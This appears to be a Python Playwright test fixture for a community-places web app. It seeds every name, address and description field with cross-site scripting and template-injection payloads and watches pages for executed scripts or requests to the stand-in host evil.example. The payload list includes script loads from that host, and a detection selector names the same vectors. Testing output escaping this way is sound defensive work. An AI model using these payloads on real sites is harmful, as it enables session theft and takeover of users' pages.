"""A town in which every name is an attack: what is stored, and what tells that one worked."""

from __future__ import annotations

import datetime as dt
import json
import uuid
from dataclasses import dataclass, field

import sqlalchemy as sa
from playwright.sync_api import BrowserContext, Dialog, Frame, Page
from sqlalchemy.orm import Session

from app.models import AssetKind, LocationSource, Membership, Role
from tests import builders
from tests.everyone.keeping import keep, keep_run
from tests.people import People, make_account, sign_in

# What a payload does when it runs: says a word that stands in no page, and asks another host.
RAN = "pwned-by-a-name"
ACT = "console.log('pwned-'+'by-a-name')"
ELSEWHERE = "evil.example"
PAYLOADS = (
    f"<script>{ACT}</script>",
    f"<img src=/x.png onerror={ACT}>",
    f'"><svg/onload={ACT}>',
    f"' autofocus onfocus={ACT} tabindex=0 x='",
    f"</textarea></title></option></select></bdi><script>{ACT}</script>",
    f"`+{ACT}+`${{{ACT}}}",
    f'\\";{ACT};//',
    f"</script><script src=//{ELSEWHERE}/x.js></script>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe><a href=javascript:{ACT}>x</a>',
    f'{{{{7*191}}}}{{{{constructor.constructor("{ACT}")()}}}}{{% raw %}}',
    f"<style>@import '//{ELSEWHERE}/x.css';</style><link rel=stylesheet href=//{ELSEWHERE}/y.css>",
    f"\\u003cimg src=/x onerror={ACT}\\u003e&#60;img src=//{ELSEWHERE}/z.png&#62;<base href=//"
    f"{ELSEWHERE}/><meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'><!--",
)
ALL = " | ".join(PAYLOADS)
NEXT_WARD = "E05001359"
# Put into a document by a name: nothing of ours looks like these.
FOREIGN = """() => [...document.querySelectorAll(
  "[onerror], [onload], [onfocus], [srcdoc], base, [href^='javascript:' i]," +
  " [href^='//evil'], [src^='//evil'], meta[http-equiv=refresh]")]
  .map((e) => e.outerHTML.slice(0, 120))"""


@dataclass
class Watch:
    """What went wrong on the pages of a context: a script that ran, a question to elsewhere."""

    base: str
    wrong: list[str] = field(default_factory=list)

    def over(self, context: BrowserContext) -> Page:
        """Return a page of the context whose every sound is listened to."""
        page = context.new_page()
        page.on("dialog", self._dismiss)
        page.on("pageerror", lambda error: self.note(page, f"a script error: {error}"))
        page.on("console", lambda said: self._hear(page, said.text))
        context.on("request", lambda asked: self._see(page, asked.url))
        return page

    def _dismiss(self, dialog: Dialog) -> None:
        self.wrong.append("a dialog")
        dialog.dismiss()

    def note(self, page: Page, what: str) -> None:
        self.wrong.append(f"{page.url}: {what}")

    def _hear(self, page: Page, text: str) -> None:
        if RAN in text or "Content Security Policy" in text:
            self.note(page, text[:300])

    def _see(self, page: Page, url: str) -> None:
        if not url.startswith((self.base, "data:", "blob:", "about:", "file:")):
            self.note(page, f"asked for {url[:200]}")

    def look_into(self, page: Page, frame: Frame) -> None:
        """Note what a name put into a document, though nothing of it has run."""
        for found in frame.evaluate(FOREIGN):
            self.note(page, f"in the document: {found}")


def store(people: People) -> str:
    """Make every name an attack, and return the token of somebody who may open every page."""
    with Session(people.engine) as session:
        _name_everything(session)
        _store_places(session, people)
        _store_what_waits(session, people)
        _store_matched(session, people)
        account = make_account(session, "everybody")
        account.name = ALL
        session.add_all(
            Membership(account_id=account.id, role=role, ward_codes=wards)
            for role, wards in (
                (Role.COUNCILLOR, ["E05001347", NEXT_WARD]), (Role.EDITOR, []),
                (Role.ADMINISTRATOR, []),
            )
        )  # fmt: skip
        token = sign_in(session, account)
        session.commit()
    return token


def _name_everything(session: Session) -> None:
    builders.make_ward(
        session, NEXT_WARD, PAYLOADS[0], shape=builders.square((-1.7334, 53.7924)), lad_name=ALL
    )
    given = {"all": ALL}
    for statement in (
        "UPDATE areas SET name = :all, lad_name = :all",
        "UPDATE sources SET name = :all, publisher = :all, licence = :all, attribution = :all",
        "UPDATE teams SET name = :all",
        "UPDATE activities SET name = :all, description = :all",
        "UPDATE gentler_alternatives SET sentence = :all",
        "UPDATE interests SET label = :all WHERE concept IN ('bowls', 'boccia', 'sport')",
    ):
        session.execute(sa.text(statement), given if ":all" in statement else {})


def _store_places(session: Session, people: People) -> None:
    kinds = (AssetKind.GROUP, AssetKind.VENUE, AssetKind.SURGERY, AssetKind.CARE_HOME)
    lon, lat = builders.CITY_HALL
    for number, text in enumerate(PAYLOADS):
        builders.make_asset(
            session, text, at=(lon + 0.0005 * number, lat), kind=kinds[number % 4], description=ALL,
            address=text, website=f"javascript:{ACT}", phone=text, email=f"{text}@x", postcode=text,
            interests=["bowls"], checked_on=dt.date.today(),  # noqa: DTZ011 - as pages say it
        )  # fmt: skip
    builders.make_asset(
        session, ALL, at=None, kind=AssetKind.INFORMAL, ward_code="E05001347",
        location_source=LocationSource.WARD, description=ALL,
    )  # fmt: skip
    session.execute(
        sa.text(
            "UPDATE assets SET name = :all, description = :all, address = :all,"
            " website = :website WHERE id = :club"
        ),
        {"all": ALL, "club": people.club_id, "website": f"https://x.example/{PAYLOADS[2]}"},
    )
    session.execute(
        sa.text(
            "INSERT INTO unmet_interests (interest_id, ward_code, noticed_on)"
            " SELECT id, 'E05001347', current_date - n FROM interests, generate_series(1, 9) n"
            " WHERE concept IN ('bowls', 'boccia')"
        )
    )


def _store_matched(session: Session, people: People) -> None:
    """Store a run that found nobody for anybody: the homes are on the map of those."""
    connection = session.connection()
    run_id = keep_run(connection)
    for resident_id in people.residents.values():
        keep(connection, run_id, resident_id)
    session.execute(
        sa.text("UPDATE assets SET name = :all WHERE id = ANY (:homes)"),
        {"all": ALL, "homes": list(people.homes.values())},
    )


def _store_what_waits(session: Session, people: People) -> None:
    def add(fields: dict[str, object], *, kind: str = "new", decision: str = "waiting") -> None:
        session.execute(
            sa.text(
                "INSERT INTO suggestions (id, kind, asset_id, fields, note, contact, decision,"
                " reason) VALUES (:id, CAST(:kind AS suggestion_kind), :asset, :fields, :all, :all,"
                " CAST(:decision AS decision), :all)"
            ),
            {
                "id": uuid.uuid4(), "kind": kind, "fields": json.dumps(fields), "all": ALL,
                "decision": decision, "asset": people.club_id if kind == "change" else None,
            },
        )  # fmt: skip

    here: dict[str, object] = {"place": {"ward_code": "E05001347"}}
    add({"name": ALL, "description": ALL, "address": ALL})
    add({**here, "name": ALL})
    add({**here, "name": ALL}, decision="rejected")
    add({"name": {"was": None, "now": ALL}}, kind="change")
    given = {"all": ALL, "club": people.club_id, "home": people.homes["a"]}
    for statement in (
        "INSERT INTO posters (code, title, place) VALUES ('HXSTQW', :all, :all)",
        "INSERT INTO import_runs (source_id, reader, scope, file_name, file_sha256, started_at,"
        " status) SELECT min(id), 'csv', '', :all, 'x', now(), 'loaded' FROM sources",
        "INSERT INTO import_problems (import_run_id, row_number, source_key, name, reason, message,"
        " suggestion) SELECT max(id), 7, :all, :all, 'unnamed', :all, :all FROM import_runs",
        "INSERT INTO photos (id, asset_id, image, thumbnail, width_px, height_px, alt)"
        " VALUES (gen_random_uuid(), :club, 'x', 'x', 4, 3, :all)",
        "INSERT INTO duplicate_pairs (asset_id, other_id, likeness, reasons)"
        " VALUES (least(:club, :home), greatest(:club, :home), 0.8, ARRAY[:all])",
        "INSERT INTO feeds (kind, name, url, publisher, licence, attribution, organizer_id,"
        " failures, message, tried_at) VALUES ('ical', :all, :all, :all, :all, :all, :club, 1,"
        " :all, now())",
        "INSERT INTO sources (slug, name, publisher, licence, attribution) SELECT 'feed-' || id,"
        " :all, :all, :all, :all FROM feeds",
        "INSERT INTO venue_requests (feed_id, words, venue_id) SELECT id, :all, :club FROM feeds",
        "INSERT INTO term_mappings (taxonomy, term, label, status) VALUES (:all, :all, :all,"
        " 'guessed')",
        "UPDATE activities SET place_words = :all",
        "INSERT INTO job_runs (job_id, task, subject, attempt, outcome, message, finished_at)"
        " SELECT 1, 'feeds.refresh', id::text, 1, 'failed', :all, now() FROM feeds",
    ):
        named = {name: value for name, value in given.items() if f":{name}" in statement}
        session.execute(sa.text(statement), named)
